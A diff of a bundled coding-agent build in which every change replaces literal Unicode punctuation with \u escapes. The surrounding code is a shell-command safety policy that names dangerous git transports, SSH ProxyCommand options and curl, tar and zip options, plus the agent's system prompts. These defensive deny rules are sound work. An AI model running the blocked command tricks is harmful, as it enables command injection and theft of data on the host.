 function locateRuntimeFile(runtimeFile, location) {
     const exists = location.exists ?? external_node_fs_.existsSync;
@@ -10434,7 +10434,7 @@ function* scanOptions(args, syntax) {
     }
 }
 /**
- * Words that are not literal but could expand into an option: `$x`, `*`, `{-c,x}` … A word whose
+ * Words that are not literal but could expand into an option: `$x`, `*`, `{-c,x}` \u2026 A word whose
  * known beginning rules out a leading `-` (`src/*.ts`) cannot.
  */
 function mayExpandToOption(arg) {
@@ -10619,7 +10619,7 @@ const SUBCOMMAND_RULES = {
     ],
     'checkout-index': [{ long: ['prefix'], why: 'writes files under any directory' }],
 };
-/** Transport addresses that run commands (`ext::sh -c …`) or use raw descriptors. */
+/** Transport addresses that run commands (`ext::sh -c \u2026`) or use raw descriptors. */
 const COMMAND_TRANSPORTS = ['ext::', 'fd::'];
 function gitArgumentProblems(args) {
     const problems = [];
@@ -11250,7 +11250,7 @@ const SSH_COMMAND_OPTIONS = [
     'pkcs11provider',
     'securitykeyprovider',
 ];
-/** `-o ProxyCommand=…` / `-o 'ProxyCommand …'`. */
+/** `-o ProxyCommand=\u2026` / `-o 'ProxyCommand \u2026'`. */
 const sshOption = (value) => SSH_COMMAND_OPTIONS.includes((value.trim().split(/[=\s]/u)[0] ?? '').toLowerCase());
 function zipCheck(args) {
     return args.flatMap((arg) => {
@@ -11344,7 +11344,7 @@ const CHECKS = {
                 { long: ['rsh-command', 'rmt-command'], why: 'names a remote shell command' },
                 { short: 'P', long: ['absolute-names'], why: 'writes files at absolute paths' },
             ];
-            // Old-style `tar xzf …`: the first word is a cluster of option letters without a dash.
+            // Old-style `tar xzf \u2026`: the first word is a cluster of option letters without a dash.
             const first = args[0]?.literal;
             const oldStyle = first !== undefined && /^[A-Za-z]+$/u.test(first) ? `-${first}` : undefined;
             const view = oldStyle && args[0] ? [{ ...args[0], literal: oldStyle }, ...args.slice(1)] : args;
@@ -11372,7 +11372,7 @@ const CHECKS = {
     ]),
     // zip -T tests the archive with unzip; -TT / --unzip-command replaces unzip by any command.
     zip: { check: zipCheck },
-    // curl writes files (-o, -O, -D, -c, --trace …), reads a config file (-K) and uploads local files.
+    // curl writes files (-o, -O, -D, -c, --trace \u2026), reads a config file (-K) and uploads local files.
     curl: options({ shortWithValue: 'AbcCdDeEFHKmoPQrtTuUwxXyYz', abbreviations: true }, [
         {
             short: 'oO',
@@ -11977,8 +11977,8 @@ const FILE_READERS = Object.keys(READERS);
  * clusters of short letters, long options by unique prefix). The reading errs towards paths:
  * a word it cannot place is taken for a file (which only costs a refusal if it lies outside),
  * and a value attached to a long option it does not know (`--foo=/etc/x`) is checked as a path
- * too. What it cannot know before the command runs — a path built by `~`, braces or an
- * expansion, a list of names read from a file, a recursion that follows symlinks — is marked
+ * too. What it cannot know before the command runs \u2014 a path built by `~`, braces or an
+ * expansion, a list of names read from a file, a recursion that follows symlinks \u2014 is marked
  * `unknown`, which the engine refuses.
  */
 
@@ -12069,7 +12069,7 @@ function dynamicReason(word) {
     }
     return 'the path is only known when it runs (write it out literally)';
 }
-/** A glob bash expands against the file system: only unquoted `*`, `?` and `[…]`, nothing else. */
+/** A glob bash expands against the file system: only unquoted `*`, `?` and `[\u2026]`, nothing else. */
 function globPattern(word) {
     if (word.dynamism.length !== 1 || word.dynamism[0] !== 'glob')
         return undefined;
@@ -12200,7 +12200,7 @@ const OTHER_SHELLS = new Set([
     'nu',
     'xonsh',
 ]);
-/** Shell option letters that do not change what runs (`-e`, `-x`, `-l` …). */
+/** Shell option letters that do not change what runs (`-e`, `-x`, `-l` \u2026). */
 const HARMLESS_SHELL_LETTERS = 'abefhklmnprtuvxBCEHPT';
 const HARMLESS_SHELL_LONG = new Set([
     '--norc',
@@ -12291,7 +12291,7 @@ const INTERPRETERS = {
         exitOptions: VERSION_ONLY,
     },
 };
-/** Options that load code given as a URL rather than a file in the workspace (`node --import data:…`). */
+/** Options that load code given as a URL rather than a file in the workspace (`node --import data:\u2026`). */
 const REMOTE_CODE = /^(data|https?):/iu;
 function interpreterSpec(program) {
     const exact = INTERPRETERS[program];
@@ -12492,7 +12492,7 @@ function shellFindings(program, args) {
 
 ;// CONCATENATED MODULE: ./src/policy/shell-programs.ts
 /**
- * Programs that run other programs or code given to them: wrappers (`env`, `xargs`, `sudo` …),
+ * Programs that run other programs or code given to them: wrappers (`env`, `xargs`, `sudo` \u2026),
  * builtins this analysis does not judge (`trap`, `alias`), interpreters and shells (see
  * shell-interpreters.ts), and builtins that set variables later commands see (`read PATH`).
  *
@@ -12553,7 +12553,7 @@ const WRAPPERS = {
     dotenv: 'runs a command with a changed environment',
     'env-cmd': 'runs a command with a changed environment',
 };
-/** Subcommands of tools that turn them into wrappers (`npm exec`, `uv run` …). */
+/** Subcommands of tools that turn them into wrappers (`npm exec`, `uv run` \u2026). */
 const WRAPPER_SUBCOMMANDS = {
     npm: ['exec', 'x', 'explore'],
     pnpm: ['dlx', 'exec'],
@@ -12637,7 +12637,7 @@ const TARGET_OPTION_VALUES = {
     readarray: 'dnOsuCc',
 };
 /**
- * Variables a command sets for the commands after it: `for PATH in …`, `read PATH`,
+ * Variables a command sets for the commands after it: `for PATH in \u2026`, `read PATH`,
  * `printf -v PATH`, `mapfile`, `getopts`. Lower-case names are the script's own; upper-case ones
  * (and `*_proxy`) may be environment variables that change what later commands run or reach.
  */
@@ -12729,7 +12729,7 @@ function sourceProblems(root, source) {
 }
 /**
  * Nodes that bash ends at an unescaped newline. The grammar sometimes runs on across one
- * (`a | b | c⏎d || e` reads as the single command `c d`), which would hide `d`.
+ * (`a | b | c\u23ced || e` reads as the single command `c d`), which would hide `d`.
  */
 const SINGLE_LINE = new Set([
     'command',
@@ -12882,7 +12882,7 @@ function flatten(node, source, state) {
             addUnquoted(text, state);
             return;
         case 'number':
-            // Numbers may hold `$((…))` and the like as children.
+            // Numbers may hold `$((\u2026))` and the like as children.
             if (node.children.length > 0)
                 markHere(state, 'expansion');
             else
@@ -12996,7 +12996,7 @@ function braceExpansionStart(chars) {
 function isUnquoted(c, ch) {
     return c !== undefined && !c.quoted && c.ch === ch;
 }
-/** The last path segment of a command name (`/usr/bin/git` → `git`). */
+/** The last path segment of a command name (`/usr/bin/git` \u2192 `git`). */
 function commandBasename(name) {
     const slash = name.lastIndexOf('/');
     return slash < 0 ? name : name.slice(slash + 1);
@@ -13060,7 +13060,7 @@ function isStatement(node) {
     return STATEMENT_TYPES.has(node.type) || node.type === 'ERROR';
 }
 /**
- * `[[ ]]` and `[ ]` evaluate operands of `-eq`, `-v` … arithmetically, where `a[$(cmd)]` runs
+ * `[[ ]]` and `[ ]` evaluate operands of `-eq`, `-v` \u2026 arithmetically, where `a[$(cmd)]` runs
  * `cmd` even from a quoted string; any `$` or backtick in a test is a hazard.
  */
 function testHazards(node, scope) {
@@ -13156,7 +13156,7 @@ function shell_syntax_text(node, scope) {
 }
 function shell_syntax_short(value) {
     const oneLine = value.replace(/\s+/gu, ' ');
-    return oneLine.length > SHORT_DETAIL ? `${oneLine.slice(0, SHORT_DETAIL - 1)}…` : oneLine;
+    return oneLine.length > SHORT_DETAIL ? `${oneLine.slice(0, SHORT_DETAIL - 1)}\u2026` : oneLine;
 }
 function dedupe(hazards) {
     const seen = new Set();
@@ -13189,7 +13189,7 @@ function scanWordInner(node, scope, hazards, walk) {
     const inner = { ...scope, depth: scope.depth + 1 };
     const written = shell_syntax_text(node, scope);
     if (!node.isNamed) {
-        // A lone `$` (as in `$"…"`, a translated string) or a stray backtick.
+        // A lone `$` (as in `$"\u2026"`, a translated string) or a stray backtick.
         if (/[$`]/u.test(node.type)) {
             hazards.push({
                 kind: 'expansion',
@@ -13219,7 +13219,7 @@ function scanWordInner(node, scope, hazards, walk) {
         case 'ansi_c_string':
         case 'translated_string':
             hazards.push({ kind: 'expansion', detail: `the expansion \`${shell_syntax_short(written)}\`` });
-            // Their own `$`, `${` … tokens need no second hazard; named parts may hold substitutions.
+            // Their own `$`, `${` \u2026 tokens need no second hazard; named parts may hold substitutions.
             for (const child of node.children)
                 if (child.isNamed)
                     scanWord(child, scope, hazards, walk);
@@ -13408,7 +13408,7 @@ class ShellWalker {
                 this.children(node, scope);
                 return;
             case 'compound_statement':
-                // `(( … ))` is arithmetic; `{ …; }` a group.
+                // `(( \u2026 ))` is arithmetic; `{ \u2026; }` a group.
                 if (node.children[0]?.type === '((') {
                     this.construct(node, node.end, scope, ARITHMETIC_HAZARDS);
                 }
@@ -14168,7 +14168,7 @@ function withAppendedText(content, text) {
 const BOLD = '**';
 /**
  * Splits a thought summary into a subject and a description. Thinking models title each summary
- * in bold (`**Checking the tests**\n\nI should…`); the first bold span is the subject and the
+ * in bold (`**Checking the tests**\n\nI should\u2026`); the first bold span is the subject and the
  * rest, with that span removed, is the description. Without a complete bold span the whole text
  * is the description, so nothing the model thought is lost.
  */
@@ -14189,7 +14189,7 @@ function parseThought(rawText) {
 /**
  * The conversation with the model: the curated history and one request/response exchange at a
  * time. It knows the wire shape (system instruction, tools, generation config) and turns a
- * response into what the session needs — thoughts, text, function calls, finish reason, usage —
+ * response into what the session needs \u2014 thoughts, text, function calls, finish reason, usage \u2014
  * while only valid, thought-free content enters the history.
  */
 
@@ -14666,7 +14666,7 @@ async function loadContextFiles(options) {
     }
     return { files, text: formatContextFiles(files) };
 }
-/** `--- Context from: <path> ---` … `--- End of Context from: <path> ---`, blank-line separated. */
+/** `--- Context from: <path> ---` \u2026 `--- End of Context from: <path> ---`, blank-line separated. */
 function formatContextFiles(files) {
     return files
         .map((file) => `--- Context from: ${file.displayPath} ---\n${file.content}\n--- End of Context from: ${file.displayPath} ---`)
@@ -14835,17 +14835,17 @@ function formatChildren(node, indent, lines) {
     const hasFoldersAfter = node.folders.length > 0 || node.moreFolders;
     node.files.forEach((file, i) => {
         const last = i === node.files.length - 1 && !node.moreFiles && !hasFoldersAfter;
-        lines.push(`${indent}${last ? '└───' : '├───'}${file}`);
+        lines.push(`${indent}${last ? '\u2514\u2500\u2500\u2500' : '\u251c\u2500\u2500\u2500'}${file}`);
     });
     if (node.moreFiles)
-        lines.push(`${indent}${hasFoldersAfter ? '├───' : '└───'}${TRUNCATED}`);
+        lines.push(`${indent}${hasFoldersAfter ? '\u251c\u2500\u2500\u2500' : '\u2514\u2500\u2500\u2500'}${TRUNCATED}`);
     node.folders.forEach((folder, i) => {
         const last = i === node.folders.length - 1 && !node.moreFolders;
-        lines.push(`${indent}${last ? '└───' : '├───'}${folder.name}${(external_node_path_default()).sep}${folder.collapsed ? TRUNCATED : ''}`);
-        formatChildren(folder, `${indent}${last ? '    ' : '│   '}`, lines);
+        lines.push(`${indent}${last ? '\u2514\u2500\u2500\u2500' : '\u251c\u2500\u2500\u2500'}${folder.name}${(external_node_path_default()).sep}${folder.collapsed ? TRUNCATED : ''}`);
+        formatChildren(folder, `${indent}${last ? '    ' : '\u2502   '}`, lines);
     });
     if (node.moreFolders)
-        lines.push(`${indent}└───${TRUNCATED}`);
+        lines.push(`${indent}\u2514\u2500\u2500\u2500${TRUNCATED}`);
 }
 function isTruncated(node) {
     return node.collapsed || node.moreFiles || node.moreFolders || node.folders.some(isTruncated);
@@ -15004,7 +15004,7 @@ class LoopDetector {
             if (new Set(cycle).size < 2)
                 continue;
             if (recent.every((key, i) => key === cycle[i % period])) {
-                const names = this.callNames.slice(-span, -span + period).join(' → ');
+                const names = this.callNames.slice(-span, -span + period).join(' \u2192 ');
                 return `the same cycle of ${period} calls (${names}) repeated ${repeats} times`;
             }
         }
@@ -15020,7 +15020,7 @@ class LoopDetector {
 }
 /**
  * The text window that recurs `threshold` times close together (on average at most five windows
- * apart) with few distinct stretches between occurrences — a model chanting the same sentence,
+ * apart) with few distinct stretches between occurrences \u2014 a model chanting the same sentence,
  * not a list whose items share a prefix. Fenced code is skipped: repetitive code is normal.
  */
 function findRepeatedChunk(text, chunkSize, threshold) {
@@ -15073,7 +15073,7 @@ function sortKeys(value) {
     return sorted;
 }
 function abbreviate(text, max) {
-    return text.length <= max ? text : `${text.slice(0, max - 1)}…`;
+    return text.length <= max ? text : `${text.slice(0, max - 1)}\u2026`;
 }
 
 // EXTERNAL MODULE: ./src/agent/scheduler.ts
@@ -15093,7 +15093,7 @@ function buildCorePrompt(options) {
 - **Act autonomously.** Nobody is watching this run and nobody can answer questions. Never ask for confirmation or clarification: when something is ambiguous, choose the most reasonable interpretation, state the assumption in your final summary, and carry on.
 - **Inspect before you change.** Use the tools to read the relevant code, configuration and tests before editing. Never guess at file contents, APIs or paths; check them. Use absolute paths inside the workspace.
 - **Follow the project's conventions.** Match the existing style, structure, naming, formatting, typing and libraries of the surrounding code. Do not add dependencies the project does not already use unless the task requires it. Read any project instructions (such as GEMINI.md or CONTRIBUTING files) that apply.
-- **Make minimal, focused changes.** Change only what the task needs. Do not reformat unrelated code, rename things for taste, or fix unrelated issues — mention them in your summary instead. Add comments only where they explain why.
+- **Make minimal, focused changes.** Change only what the task needs. Do not reformat unrelated code, rename things for taste, or fix unrelated issues \u2014 mention them in your summary instead. Add comments only where they explain why.
 - **Verify your work.** When the project has tests, a linter or a type checker and you are allowed to run them, run the relevant ones after changing code and fix what you broke. If you cannot run them, say so.
 - **Do not publish.** Never commit, push, create branches, tags or pull requests, or call GitHub in any other way, and do not try to obtain credentials. Trusted code reviews and publishes your changes to the workspace after you finish.
 - **Tool calls may be denied.** A policy decides which tool calls may run. When a call is denied, read the reason given, do not retry the same call, and adapt: use a permitted tool or approach, or explain in your summary what you could not do and why.
@@ -15102,11 +15102,11 @@ function buildCorePrompt(options) {
 
 # Finishing
 
-When the task is done — or cannot be done — stop calling tools and reply with a concise summary for the person who requested the work: what you changed (files and the gist of each change), how you verified it, and anything left undone, uncertain or worth a reviewer's attention. Use Markdown. Keep it short.`;
+When the task is done \u2014 or cannot be done \u2014 stop calling tools and reply with a concise summary for the person who requested the work: what you changed (files and the gist of each change), how you verified it, and anything left undone, uncertain or worth a reviewer's attention. Use Markdown. Keep it short.`;
 }
 /**
  * The system instruction sent with every request: the core prompt, then the context files (each
- * already wrapped in its `--- Context from: … ---` markers), separated by a rule.
+ * already wrapped in its `--- Context from: \u2026 ---` markers), separated by a rule.
  */
 function buildSystemInstruction(corePrompt, contextText) {
     const context = contextText.trim();
@@ -15667,7 +15667,7 @@ var picomatch_default = /*#__PURE__*/__webpack_require__.n(picomatch);
 /**
  * What bash makes of a glob in a command's arguments, found before the command runs, so the
  * policy can check every path it will open (`cat *.txt` where one `.txt` is a symlink out of the
- * workspace). Bash's defaults for `bash -c`: `*`, `?` and `[…]` match within one path segment,
+ * workspace). Bash's defaults for `bash -c`: `*`, `?` and `[\u2026]` match within one path segment,
  * a leading `.` only when the pattern's segment starts with one (and then `.` and `..` too, as
  * in bash before 5.2), no `**` recursion, no extended globs, and a pattern that matches nothing
  * is passed on as written.
@@ -15837,7 +15837,7 @@ function lowerCaseTypes(schema) {
 function isObject(value) {
     return typeof value === 'object' && value !== null && !Array.isArray(value);
 }
-/** `a string`, `null`, `a list`, … for messages. */
+/** `a string`, `null`, `a list`, \u2026 for messages. */
 function describeJson(value) {
     if (value === null)
         return 'null';
@@ -16147,15 +16147,15 @@ Signal: Signal number or \`(none)\` if no signal was received.
 `;
 }
 function cut(text, max) {
-    return text.length > max ? `${text.slice(0, max - 1)}…` : text;
+    return text.length > max ? `${text.slice(0, max - 1)}\u2026` : text;
 }
 
 ;// CONCATENATED MODULE: ./src/tools/discovered/discover-tools.ts
 /**
  * The tools a settings file's `tools.discoveryCommand` declares. The command runs once, before
  * the session, in the workspace root with the tool environment (and sandbox); it prints a JSON
- * array of function declarations. A discovery command that fails — exits non-zero, prints no
- * JSON array, runs too long — fails the run with a `ConfigurationError` that shows the command and
+ * array of function declarations. A discovery command that fails \u2014 exits non-zero, prints no
+ * JSON array, runs too long \u2014 fails the run with a `ConfigurationError` that shows the command and
  * the end of its error output: the maintainer asked for these tools, and a session quietly without
  * them would do something else than asked. Single entries the model could not call are left out
  * with a warning naming them.
@@ -16255,7 +16255,7 @@ async function discoverTools(options) {
 function stderrTail(text) {
     const lines = text.trimEnd().split('\n');
     const tail = lines.slice(-STDERR_TAIL_LINES).join('\n');
-    return tail.length > STDERR_TAIL_CHARS ? `…${tail.slice(-STDERR_TAIL_CHARS)}` : tail;
+    return tail.length > STDERR_TAIL_CHARS ? `\u2026${tail.slice(-STDERR_TAIL_CHARS)}` : tail;
 }
 
 ;// CONCATENATED MODULE: ./src/tools/redacted-results.ts
@@ -16414,7 +16414,7 @@ const SYSTEM_PROMPT = `You are the **Codebase Investigator**, a subagent whose o
 - Be precise: name files, functions, types and settings exactly as they are in the code. Say what you could not determine rather than guessing.
 
 # Your report
-When your questions are answered — or no further reading would help — hand in the report with complete_task: the summary of your findings, the trace of what you explored, and the relevant locations with why each matters.`;
+When your questions are answered \u2014 or no further reading would help \u2014 hand in the report with complete_task: the summary of your findings, the trace of what you explored, and the relevant locations with why each matters.`;
 const codebaseInvestigator = (0,agent_definition/* defineAgent */.fO)({
     name: CODEBASE_INVESTIGATOR,
     displayName: 'Codebase Investigator',
@@ -16534,7 +16534,7 @@ function createCompleteTask(output) {
 ;// CONCATENATED MODULE: ./src/agent/subagents/agent-executor.ts
 /**
  * The agent executor (the design's first level of execution): runs one subagent on its inputs in
- * a session of its own — its system prompt, model, tools, turn and time limits — on the same
+ * a session of its own \u2014 its system prompt, model, tools, turn and time limits \u2014 on the same
  * model transport, scheduler, policy, sandbox and redaction as the main agent, until it hands in
  * output valid against its schema with `complete_task`. Its events go into the run's stream
  * nested under the parent's call; its tokens count against the run's token budget.
@@ -16557,7 +16557,7 @@ const SUBAGENT_RULES = `# Important rules
 - You are a subagent: another agent gave you this task and reads only what you hand in. You run non-interactively; nobody can answer questions, so never ask for clarification: choose the most reasonable interpretation and say so in your result.
 - A policy decides which tool calls may run. When a call is denied, read the reason, do not retry it, and work with what you may use.
 - Use absolute paths inside the workspace.
-- When you are done — or cannot get further — you MUST call the \`${COMPLETE_TASK_TOOL_NAME}\` tool with your result. It is the ONLY way to finish: text you write outside it is never read. Do not call other tools in the same turn as \`${COMPLETE_TASK_TOOL_NAME}\`.`;
+- When you are done \u2014 or cannot get further \u2014 you MUST call the \`${COMPLETE_TASK_TOOL_NAME}\` tool with your result. It is the ONLY way to finish: text you write outside it is never read. Do not call other tools in the same turn as \`${COMPLETE_TASK_TOOL_NAME}\`.`;
 const REMINDER = `You answered without calling a tool, but your task is only complete when you call \`${COMPLETE_TASK_TOOL_NAME}\`. Call it now with your result (if your work was interrupted, hand in what you have and say so). Do not call other tools.`;
 class AgentExecutor {
     runtime;
@@ -16721,8 +16721,8 @@ var invoke_agent = __webpack_require__(71340);
  * A subagent offered to the main agent as a tool of its own, as the Gemini CLI's documentation
  * describes it: the agent's name, description and input schema are the tool's. Calling it runs
  * the agent with the executor; what it hands in (or why it stopped, and what it cost) is the
- * call's result. The tool's kind is `agent`; it is read-only — several calls of one turn run in
- * parallel — when every tool the agent may use is.
+ * call's result. The tool's kind is `agent`; it is read-only \u2014 several calls of one turn run in
+ * parallel \u2014 when every tool the agent may use is.
  */
 
 
@@ -16769,7 +16769,7 @@ function createSubagentTool(definition, executor) {
     });
     return { ...tool, readOnly: executor.isReadOnly(definition) };
 }
-/** `3 turns · 5 tool calls · 12,345 tokens · 41s`: what a subagent's run cost. */
+/** `3 turns \u00b7 5 tool calls \u00b7 12,345 tokens \u00b7 41s`: what a subagent's run cost. */
 function costLine(result) {
     const count = (n, noun) => `${n.toLocaleString('en-US')} ${noun}${n === 1 ? '' : 's'}`;
     return [
@@ -16777,7 +16777,7 @@ function costLine(result) {
         count(result.toolCalls, 'tool call'),
         count(result.usage.total_tokens, 'token'),
         (0,budgets/* formatDuration */.a3)(result.durationMs),
-    ].join(' · ');
+    ].join(' \u00b7 ');
 }
 /** What the call is about, on one line: its first text input, or its inputs (`group 2`). */
 function gist(params) {
@@ -16787,7 +16787,7 @@ function gist(params) {
             .map(([key, input]) => `${key} ${JSON.stringify(input)}`)
             .join(', ');
     const line = value.replace(/\s+/g, ' ').trim();
-    return line.length > 100 ? `${line.slice(0, 99)}…` : line;
+    return line.length > 100 ? `${line.slice(0, 99)}\u2026` : line;
 }
 
 ;// CONCATENATED MODULE: ./src/agent/subagents/register-subagents.ts
@@ -16850,7 +16850,7 @@ function createInjectionServices(options) {
             if (completed === undefined)
                 throw new Error(`the scheduler gave no result for ${callId}`);
             const decision = last?.confirmation_outcome;
-            logger.info(`Custom command: ${last?.description ?? name} — ${decision === undefined ? completed.status : `${decision.decision === 'allow' ? 'allowed' : 'denied'} by ${decision.decided_by ?? 'the policy'}`}${exitNote(completed)}.`);
+            logger.info(`Custom command: ${last?.description ?? name} \u2014 ${decision === undefined ? completed.status : `${decision.decision === 'allow' ? 'allowed' : 'denied'} by ${decision.decided_by ?? 'the policy'}`}${exitNote(completed)}.`);
             return completed;
         },
     };
@@ -17272,7 +17272,7 @@ async function gitListing(dir, options) {
     const { git } = options;
     if (git === null)
         return null;
-    // `-t` tags each path: `?` for untracked, a letter for an index entry (`H`, `S`, `M`, …).
+    // `-t` tags each path: `?` for untracked, a letter for an index entry (`H`, `S`, `M`, \u2026).
     const lines = await listNulSeparated(git, [
         'ls-files',
         '-z',
@@ -17344,7 +17344,7 @@ function listNulSeparated(git, args, cwd, signal) {
  * The pathspec only has to be wide enough: glob still matches every listed path against the
  * pattern itself (picomatch), so a pathspec that lets more through costs a little time, while
  * one that left out a match would lose a file. Where the two dialects might disagree the
- * translation widens (`?` and `{…}` become `*`) or gives up (null: list everything):
+ * translation widens (`?` and `{\u2026}` become `*`) or gives up (null: list everything):
  *
  * - Only printable ASCII: git folds case for ASCII letters only, and matches `?` against a byte
  *   where picomatch matches a UTF-16 unit.
@@ -18241,7 +18241,7 @@ var create = __webpack_require__(37291);
 ;// CONCATENATED MODULE: ./src/tools/file-diff.ts
 /**
  * The diff of a proposed file change, as the policy, the transcript and the progress comment see
- * it: a unified diff with the workspace-relative path in its header (`a/…`, `b/…`, `/dev/null` for
+ * it: a unified diff with the workspace-relative path in its header (`a/\u2026`, `b/\u2026`, `/dev/null` for
  * a new file, the form `git apply` takes), line and character counts, and the `edit`
  * confirmation built from the same change. Whitespace is significant: a re-indentation is a change
  * a reviewer has to see.
@@ -18250,7 +18250,7 @@ var create = __webpack_require__(37291);
 
 const CONTEXT_LINES = 3;
 /**
- * The line diff costs about (file length × changed lines); past this many changed lines it is
+ * The line diff costs about (file length \u00d7 changed lines); past this many changed lines it is
  * slow and tells little, so the change is shown as the whole old text replaced by the whole new
  * text, which is still a correct patch.
  */
@@ -19060,8 +19060,8 @@ function cutLine(line) {
  * against it, so an engine can never add a line. An engine could still miss one where its
  * dialect reads the same text differently; the checks here send such patterns to a strategy
  * that reads them correctly instead:
- * - escapes only some engines know (`\h`, `\p{L}`, `\Q…\E`, `\k<n>`, `\0`) or read differently
- *   (`\x{…}`), POSIX classes (`[[:alpha:]]`) and JavaScript's `[]` / `[^]` are not passed on;
+ * - escapes only some engines know (`\h`, `\p{L}`, `\Q\u2026\E`, `\k<n>`, `\0`) or read differently
+ *   (`\x{\u2026}`), POSIX classes (`[[:alpha:]]`) and JavaScript's `[]` / `[^]` are not passed on;
  * - for ripgrep's default engine, whose `\b`, `\W` and `\D` know Unicode letters and digits,
  *   those are rewritten to their ASCII forms, and a brace that is no quantifier is escaped;
  * - for POSIX extended regexes (git grep without PCRE) only a plain subset is passed.
@@ -19154,7 +19154,7 @@ const RUST_CLASS_SPECIAL = new Set(['[', '&', '~']);
 /** The pattern for ripgrep (see the file comment); call only for portable patterns. */
 function toRipgrepPattern(pattern) {
     const tokens = tokenize(pattern);
-    // Look-around and backreferences go to PCRE2, which rejects `(?-u:…)`: pass those unchanged.
+    // Look-around and backreferences go to PCRE2, which rejects `(?-u:\u2026)`: pass those unchanged.
     if (typeof tokens === 'string' || LOOKAROUND_OR_BACKREFERENCE.test(pattern))
         return pattern;
     let out = '';
@@ -20763,7 +20763,7 @@ function parsePrompt(text) {
     }
     return { validUrls, errors };
 }
-/** `github.com/<owner>/<repo>/blob/<ref>/<path>` → the raw file on raw.githubusercontent.com. */
+/** `github.com/<owner>/<repo>/blob/<ref>/<path>` \u2192 the raw file on raw.githubusercontent.com. */
 function convertGithubUrlToRaw(input) {
     try {
         const url = new URL(input);
@@ -21616,9 +21616,9 @@ function escapes(relativePath) {
 /* harmony export */ });
 /**
  * Where the specification and the current Gemini CLI name a tool's parameter differently, the
- * tool declares the specification's name and accepts the Gemini CLI's as an alias: alias →
+ * tool declares the specification's name and accepts the Gemini CLI's as an alias: alias \u2192
  * declared name, per tool. One table, because the policy needs it too: a Gemini CLI user's
- * `argsPattern = '"file_path":"…"'` for `read_file` must see the call under that name.
+ * `argsPattern = '"file_path":"\u2026"'` for `read_file` must see the call under that name.
  */
 const PARAMETER_ALIASES = {
     read_file: { file_path: 'absolute_path' },
@@ -21627,7 +21627,7 @@ const PARAMETER_ALIASES = {
     search_file_content: { dir_path: 'path', include_pattern: 'include' },
     run_shell_command: { dir_path: 'directory' },
 };
-/** The tool's arguments under the Gemini CLI's current names (declared name → alias). */
+/** The tool's arguments under the Gemini CLI's current names (declared name \u2192 alias). */
 function withGeminiNames(toolName, args) {
     const aliases = PARAMETER_ALIASES[toolName];
     if (aliases === undefined)
@@ -21677,7 +21677,7 @@ const ASCII = /^[^\u0080-\u{10FFFF}]*$/u;
 /**
  * A name as a forgiving file system would compare it: compatibility-normalised (fullwidth
  * letters become ASCII), invisible code points dropped, and case-folded through upper case so
- * that letters whose capital is ASCII (`ı` → `I`) fold as well.
+ * that letters whose capital is ASCII (`\u0131` \u2192 `I`) fold as well.
  */
 function foldName(name) {
     // ASCII is its own NFKC form and holds no invisible code points: only the case remains.
@@ -21724,7 +21724,7 @@ function quotePath(somePath) {
     const visible = somePath.replaceAll('\0', '\\0');
     if (visible.length <= SHOWN_PATH_CHARS)
         return visible;
-    return `${visible.slice(0, SHOWN_PATH_CHARS)}… (${visible.length} characters)`;
+    return `${visible.slice(0, SHOWN_PATH_CHARS)}\u2026 (${visible.length} characters)`;
 }
 /** An empty, `.` or `..` component, or a trailing separator. */
 const NOT_NORMAL = /\/\/|\/\.\.?(?:\/|$)|.\/$/u;
@@ -22700,7 +22700,7 @@ function resolveDirectory(workspace, directory) {
     };
 }
 /**
- * The first word of each sub-command (`npm test && git status | head` → npm, git, head), for the
+ * The first word of each sub-command (`npm test && git status | head` \u2192 npm, git, head), for the
  * confirmation a human would have seen. A rough split: the policy engine parses commands properly.
  */
 function shellRootCommands(command) {
@@ -23160,7 +23160,7 @@ function toolSandboxSession(options) {
 /* harmony export */   HT: () => (/* binding */ toolNameOf),
 /* harmony export */   zj: () => (/* binding */ toolArgumentOf)
 /* harmony export */ });
-/** `run_shell_command(git status)` → `run_shell_command`. */
+/** `run_shell_command(git status)` \u2192 `run_shell_command`. */
 function toolNameOf(entry) {
     const open = entry.indexOf('(');
     return (open < 0 ? entry : entry.slice(0, open)).trim();
